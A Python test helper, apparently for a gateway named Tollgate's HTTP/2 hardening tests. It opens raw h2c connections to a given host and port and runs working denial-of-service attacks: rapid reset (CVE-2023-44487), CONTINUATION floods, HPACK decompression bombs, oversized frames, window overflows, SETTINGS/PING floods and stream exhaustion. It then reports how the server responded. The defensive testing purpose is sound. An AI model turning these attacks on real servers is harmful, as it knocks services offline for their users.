"""A hostile HTTP/2 client (PyPI h2: hyper-h2 with its hpack and hyperframe) for Tollgate's
end-to-end hardening tests (tests/tests/h2_abuse.rs).

  python h2_abuse.py ATTACK HOST:PORT

speaks cleartext HTTP/2 with prior knowledge (h2c) to HOST:PORT: prints {"event": "attacking"},
runs ATTACK, and prints one JSON line with what the server
did: its GOAWAY (error code, last stream, debug data), the RST_STREAM codes and response statuses
it sent, whether it closed the connection, the time taken. Each attack uses connections of its
own and is bounded in time; an attack that the server cuts short is started again on a fresh
connection until MIN_SECONDS have passed (the first connection's results are reported, with
`rounds`), so that other clients can be checked while it lasts. Attacks:

  rapid_reset           10,000 streams opened and reset at once (CVE-2023-44487)
  rapid_reset_paced     100 streams, 20 ms, their resets; again, up to 10,000 streams
  continuation_flood    HEADERS without END_HEADERS, then 10 MB of CONTINUATION (CVE-2024-27316)
  continuation_empty    HEADERS without END_HEADERS, then 100,000 empty CONTINUATION frames
  header_list_40kib     one 4 KiB HEADERS frame that decodes to 44 KB of headers (HPACK table)
  header_list_1mib      one 5 KiB HEADERS frame that decodes to 1 MiB of headers
  hpack_bomb            one 16 KiB HEADERS frame that decodes to 49 MiB of headers
  oversized_frame       one 1 MiB HEADERS frame of literals, past SETTINGS_MAX_FRAME_SIZE
  zero_window           initial window 0, 100 requests held 2 s, no WINDOW_UPDATE (h2.H2Connection)
  window_overflow_stream     WINDOW_UPDATE of 2^31-1 on an open stream
  window_overflow_connection WINDOW_UPDATE of 2^31-1 on the connection
  settings_flood        100,000 SETTINGS frames
  ping_flood            100,000 PING frames
  too_many_streams      twice SETTINGS_MAX_CONCURRENT_STREAMS slow requests at once
"""
import json
import select
import socket
import struct
import sys
import time
from collections import Counter

import h2.config
import h2.connection
import h2.events
import h2.settings
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Decoder, Encoder
from hpack.hpack import encode_integer
from hpack.struct import NeverIndexedHeaderTuple
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MIN_SECONDS = 1.0
MAX_WINDOW = 2**31 - 1
MAX_FRAME = 16_384  # the default SETTINGS_MAX_FRAME_SIZE


def frame(kind, flags, stream, payload=b""):
    """One frame, as given: the length is not checked against any setting."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings_payload(values):
    return b"".join(struct.pack(">HI", k, v) for k, v in values.items())


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return hex(code)


def request_block(path, extra=()):
    """An HPACK block of a GET with no reference to the dynamic table (reusable on any stream)."""
    headers = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path.encode()),
               (b":authority", b"t")] + [(n.encode(), v.encode()) for n, v in extra]
    return Encoder().encode([NeverIndexedHeaderTuple(n, v) for n, v in headers], huffman=False)


def literal(name, value, indexing=False):
    """An HPACK literal with a new name, with or without incremental indexing."""
    return (bytes([0x40 if indexing else 0x00]) + bytes(encode_integer(len(name), 7)) + name
            + bytes(encode_integer(len(value), 7)) + value)


class Peer:
    """A raw h2c connection: sends any bytes, parses every frame the server sends."""

    def __init__(self, addr, settings=None, deadline=10.0):
        self.start = time.monotonic()
        self.deadline = self.start + deadline
        self.sock = socket.create_connection(addr, timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.rbuf = bytearray()
        self.hpack = Decoder()
        self.hpack.max_header_list_size = 1 << 20
        self.partial = None  # (stream, block, end_stream) of a HEADERS awaiting CONTINUATION
        self.goaway = None
        self.rst = Counter()
        self.rst_streams = {}
        self.statuses = Counter()
        self.status_of = {}
        self.ended = set()
        self.data_bytes = 0
        self.settings_acks = 0
        self.ping_acks = 0
        self.server_settings = {}
        self.frames = Counter()
        self.closed = None  # "eof" or "reset" once the server closed the connection
        self.bytes_sent = 0
        self.timed_out = False
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings_payload(settings or {})))

    def elapsed(self):
        return round(time.monotonic() - self.start, 3)

    def send(self, data):
        """Sends `data` while reading what comes; False if the connection closed or time ran out."""
        view = memoryview(data)
        while view:
            if self.closed:
                return False
            left = self.deadline - time.monotonic()
            if left <= 0:
                self.timed_out = True
                return False
            r, w, _ = select.select([self.sock], [self.sock], [], min(left, 0.5))
            if r:
                self.read()
            if w and not self.closed:
                try:
                    n = self.sock.send(view[:262144])
                except BlockingIOError:
                    continue
                except OSError:
                    self.closed = "reset"
                    return False
                self.bytes_sent += n
                view = view[n:]
        return True

    def read(self):
        try:
            chunk = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            self.closed = "reset"
            return
        if not chunk:
            self.closed = "eof"
            return
        self.rbuf += chunk
        while len(self.rbuf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.rbuf[:9]))
            if len(self.rbuf) < 9 + length:
                break
            f.parse_body(memoryview(self.rbuf[9:9 + length]))
            del self.rbuf[:9 + length]
            self.on_frame(f)

    def on_frame(self, f):
        self.frames[type(f).__name__] += 1
        if isinstance(f, GoAwayFrame):
            if self.goaway is None:
                self.goaway = {"code": code_name(f.error_code), "last_stream": f.last_stream_id,
                               "debug": f.additional_data.decode("latin-1")[:200]}
        elif isinstance(f, RstStreamFrame):
            self.rst[code_name(f.error_code)] += 1
            self.rst_streams[f.stream_id] = code_name(f.error_code)
            self.ended.add(f.stream_id)
        elif isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                self.settings_acks += 1
            else:
                self.server_settings.update(f.settings)
        elif isinstance(f, PingFrame):
            if "ACK" in f.flags:
                self.ping_acks += 1
        elif isinstance(f, DataFrame):
            self.data_bytes += len(f.data)
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
        elif isinstance(f, HeadersFrame):
            self.partial = (f.stream_id, bytes(f.data), "END_STREAM" in f.flags)
            if "END_HEADERS" in f.flags:
                self.headers_done()
        elif isinstance(f, ContinuationFrame) and self.partial:
            stream, block, end = self.partial
            self.partial = (stream, block + bytes(f.data), end)
            if "END_HEADERS" in f.flags:
                self.headers_done()

    def headers_done(self):
        stream, block, end = self.partial
        self.partial = None
        for name, value in self.hpack.decode(block, raw=True):
            if name == b":status" and stream not in self.status_of:
                self.status_of[stream] = int(value)
                self.statuses[value.decode()] += 1
        if end:
            self.ended.add(stream)

    def pump(self, seconds, until=lambda: False):
        """Reads for up to `seconds` (within the deadline), until the connection closes or
        `until()` holds."""
        end = min(time.monotonic() + seconds, self.deadline)
        while not self.closed and not until():
            left = end - time.monotonic()
            if left <= 0:
                break
            r, _, _ = select.select([self.sock], [], [], min(left, 0.5))
            if r:
                self.read()

    def report(self, **extra):
        return dict({
            "goaway": self.goaway,
            "rst": dict(self.rst),
            "statuses": dict(self.statuses),
            "closed": self.closed is not None,
            "close_kind": self.closed,
            "data_bytes": self.data_bytes,
            "bytes_sent": self.bytes_sent,
            "timed_out": self.timed_out,
            "frames": dict(self.frames),
            "max_concurrent_streams": self.server_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS),
            "elapsed": self.elapsed(),
        }, **extra)

    def close(self):
        """Closes the connection; after a GOAWAY, first waits (up to 1 s) for the server to
        close it, so that the report says whether it does."""
        if self.goaway is not None:
            self.pump(1.0, until=lambda: self.closed)
        self.sock.close()


def gone(p):
    return p.closed is not None or p.goaway is not None


def rapid_reset(addr):
    p = Peer(addr)
    block = request_block("/ok/rapid-reset")
    cancel = struct.pack(">I", ErrorCodes.CANCEL)
    sent = 0
    for batch in range(20):
        ids = range(1 + 1000 * batch, 1 + 1000 * (batch + 1), 2)[:500]
        burst = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block)
                         + frame(RST_STREAM, 0, i, cancel) for i in ids)
        if not p.send(burst):
            break
        sent += len(ids)
    # What the server does once the burst is over: a GOAWAY, a close, or nothing.
    p.pump(1.0, until=lambda: p.closed)
    p.close()
    return p.report(streams_reset=sent)


def rapid_reset_paced(addr):
    """Resets that come after the gateway has started on the requests: 100 streams, 20 ms for
    the gateway to take them (and ask the upstream), then their RST_STREAM; again."""
    p = Peer(addr)
    block = request_block("/ok/rapid-reset-paced")
    cancel = struct.pack(">I", ErrorCodes.CANCEL)
    sent = 0
    while sent < 10_000 and not gone(p) and not p.timed_out:
        ids = range(1 + 2 * sent, 1 + 2 * (sent + 100), 2)
        if not p.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in ids)):
            break
        p.pump(0.02)
        if not p.send(b"".join(frame(RST_STREAM, 0, i, cancel) for i in ids)):
            break
        sent += 100
    p.pump(1.0, until=lambda: p.closed)
    p.close()
    return p.report(streams_reset=sent)


def continuation(addr, frames):
    p = Peer(addr)
    p.send(frame(HEADERS, END_STREAM, 1, request_block("/ok/continuation")))
    sent = 0
    for chunk in range(0, len(frames), 64):
        if not p.send(b"".join(frames[chunk:chunk + 64])):
            break
        sent += len(frames[chunk:chunk + 64])
    p.pump(1.0, until=lambda: p.closed)
    p.close()
    return p.report(continuation_frames=sent, continuation_frames_planned=len(frames))


def continuation_flood(addr):
    # 640 frames of 16,000-byte literals: 10 MB of headers, never ended.
    payload = literal(b"x-flood", b"a" * 15_980)
    return continuation(addr, [frame(CONTINUATION, 0, 1, payload)] * 640)


def continuation_empty(addr):
    return continuation(addr, [frame(CONTINUATION, 0, 1)] * 100_000)


def amplified_prefix():
    return request_block("/ok/big-headers") + literal(b"x-b", b"b" * 4_000, indexing=True)


HEADER_PREFIX = len(amplified_prefix())


def amplified_headers(addr, refs):
    """One HEADERS frame: a 4,000-byte header put in the HPACK table, then `refs` one-byte
    references to it (each decodes to 4,035 bytes of the header list)."""
    p = Peer(addr)
    block = amplified_prefix() + bytes([0x80 | 62]) * refs
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    p.pump(3.0, until=lambda: 1 in p.ended or gone(p))
    p.close()
    return p.report(frame_bytes=len(block), decoded_bytes=4_035 * (refs + 1),
                    stream_status=p.status_of.get(1), stream_rst=p.rst_streams.get(1))


def header_list_40kib(addr):
    """Over the gateway's own `server.max_header_bytes` (32 KiB), under HTTP/2's 64 KiB."""
    return amplified_headers(addr, 10)


def header_list_1mib(addr):
    return amplified_headers(addr, 260)


def hpack_bomb(addr):
    # As many references as fit in one frame of the default SETTINGS_MAX_FRAME_SIZE.
    return amplified_headers(addr, MAX_FRAME - HEADER_PREFIX)


def oversized_frame(addr):
    p = Peer(addr)
    block = request_block("/ok/oversized") + b"".join(
        literal(b"x-big-%d" % i, b"c" * 4_000) for i in range(262))
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    p.pump(3.0, until=lambda: 1 in p.ended or gone(p))
    p.close()
    return p.report(frame_bytes=len(block), stream_status=p.status_of.get(1),
                    stream_rst=p.rst_streams.get(1))


def zero_window(addr):
    """A well-formed client (h2.H2Connection) that offers no window and never opens one."""
    sock = socket.create_connection(addr, timeout=5)
    start = time.monotonic()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.local_settings = h2.settings.Settings(client=True, initial_values={
        SettingCodes.INITIAL_WINDOW_SIZE: 0, SettingCodes.ENABLE_PUSH: 0})
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    # Wait for the server's SETTINGS (its stream limit) before opening streams.
    limit, opened, statuses, rst, data, goaway, closed = None, 0, Counter(), Counter(), 0, None, None
    hold_until = None
    while time.monotonic() - start < 8:
        if limit is not None and opened == 0:
            # Each answer echoes the 3,000-byte header: more than fits in no window at all.
            for _ in range(min(limit, 100)):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"),
                                        (":path", f"/ok/zero-window/{sid}"), (":authority", "t"),
                                        ("x-pad", "p" * 3_000)], end_stream=True)
                opened += 1
            hold_until = time.monotonic() + 2.0
        if hold_until and time.monotonic() > hold_until:
            break
        sock.sendall(conn.data_to_send())
        sock.settimeout(0.2)
        try:
            chunk = sock.recv(1 << 20)
        except socket.timeout:
            continue
        except OSError:
            closed = "reset"
            break
        if not chunk:
            closed = "eof"
            break
        for event in conn.receive_data(chunk):
            if isinstance(event, h2.events.RemoteSettingsChanged) and limit is None:
                limit = conn.remote_settings.max_concurrent_streams
            elif isinstance(event, h2.events.ResponseReceived):
                statuses[dict(event.headers)[b":status"].decode()] += 1
            elif isinstance(event, h2.events.DataReceived):
                data += len(event.data)
            elif isinstance(event, h2.events.StreamReset):
                rst[code_name(event.error_code)] += 1
            elif isinstance(event, h2.events.ConnectionTerminated):
                goaway = {"code": code_name(event.error_code),
                          "last_stream": event.last_stream_id, "debug": ""}
    sock.close()
    return {"goaway": goaway, "rst": dict(rst), "statuses": dict(statuses),
            "closed": closed is not None, "close_kind": closed, "data_bytes": data,
            "streams": opened, "max_concurrent_streams": limit,
            "elapsed": round(time.monotonic() - start, 3)}


def window_overflow_stream(addr):
    p = Peer(addr)
    # A slow answer keeps stream 1 open while its window is pushed past 2^31-1.
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                 request_block("/ok/window", [("x-echo-delay-ms", "1000")])))
    p.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", MAX_WINDOW)))
    p.pump(3.0, until=lambda: 1 in p.ended or gone(p))
    # The connection itself stays usable: another stream is answered.
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, request_block("/ok/after-overflow")))
    p.pump(3.0, until=lambda: 3 in p.ended or gone(p))
    p.close()
    return p.report(stream_rst=p.rst_streams.get(1), stream_status=p.status_of.get(1),
                    next_stream_status=p.status_of.get(3))


def window_overflow_connection(addr):
    p = Peer(addr)
    p.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW)))
    p.pump(3.0, until=lambda: p.closed)
    p.close()
    return p.report()


def flood(addr, one, count):
    p = Peer(addr, deadline=8.0)
    sent = 0
    for _ in range(count // 1000):
        if not p.send(one * 1000):
            break
        sent += 1000
    p.pump(1.0, until=lambda: p.closed)
    p.close()
    return p.report(flood_frames=sent)


def settings_flood(addr):
    return flood(addr, frame(SETTINGS, 0, 0, settings_payload(
        {SettingCodes.INITIAL_WINDOW_SIZE: 65_535})), 100_000)


def ping_flood(addr):
    return flood(addr, frame(PING, 0, 0, b"12345678"), 100_000)


def too_many_streams(addr):
    p = Peer(addr)
    p.pump(2.0, until=lambda: SettingCodes.MAX_CONCURRENT_STREAMS in p.server_settings)
    limit = p.server_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS, 100)
    count = 2 * min(limit, 500)
    # Slow answers: every stream is still open when the last one is opened.
    block = request_block("/ok/streams", [("x-echo-delay-ms", "1000")])
    ids = [1 + 2 * i for i in range(count)]
    p.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in ids))
    p.pump(6.0, until=lambda: all(i in p.ended for i in ids) or gone(p))
    p.close()
    return p.report(streams=count, answered=sum(1 for i in ids if i in p.status_of),
                    unfinished=sum(1 for i in ids if i not in p.ended))


ATTACKS = {f.__name__: f for f in (
    rapid_reset, rapid_reset_paced, continuation_flood, continuation_empty, header_list_40kib,
    header_list_1mib, hpack_bomb,
    oversized_frame, zero_window, window_overflow_stream, window_overflow_connection,
    settings_flood, ping_flood, too_many_streams)}


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    attack = ATTACKS[sys.argv[1]]
    host, port = sys.argv[2].rsplit(":", 1)
    addr = (host, int(port))
    print(json.dumps({"event": "attacking"}), flush=True)
    start = time.monotonic()
    result = attack(addr)
    rounds = 1
    while time.monotonic() - start < MIN_SECONDS:
        attack(addr)
        rounds += 1
    result.update(attack=sys.argv[1], rounds=rounds, total_elapsed=round(time.monotonic() - start, 3))
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
